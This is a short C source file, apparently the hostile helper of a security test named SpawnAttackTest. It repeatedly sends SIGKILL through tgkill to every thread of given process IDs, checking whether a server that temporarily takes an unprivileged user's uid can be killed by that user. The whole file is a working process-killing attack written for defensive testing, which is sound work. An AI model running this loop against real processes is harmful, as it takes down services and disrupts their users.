/* tgkill-attack.c - the hostile program of SpawnAttackTest: sends SIGKILL to every thread of the given processes,
 * over and over, as fast as it can. Run as the program user (nobody), it kills a server one of whose threads holds
 * that user's uid while it starts a program (NativeLauncher's per-thread switch); against a server that never takes
 * the program user's identity (the spawn helper) every tgkill fails with EPERM.
 * usage: tgkill-attack PID...    prints "attacking", then runs until killed (or until every target is gone)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: tgkill-attack PID...\n"); return 2; }
    printf("attacking\n");
    fflush(stdout);
    unsigned long sent = 0, denied = 0;
    for (;;) {
        int alive = 0;
        for (int i = 1; i < argc; i++) {
            int pid = atoi(argv[i]);
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/task", pid);
            DIR *d = opendir(path);
            if (d == NULL) continue;
            alive++;
            struct dirent *e;
            while ((e = readdir(d)) != NULL) {
                int tid = atoi(e->d_name);
                if (tid <= 0) continue;
                if (syscall(SYS_tgkill, pid, tid, SIGKILL) == 0) sent++;
                else denied++;
            }
            closedir(d);
        }
        if (!alive) {
            fprintf(stderr, "tgkill-attack: every target is gone (%lu sent, %lu denied)\n", sent, denied);
            return 0;
        }
    }
}
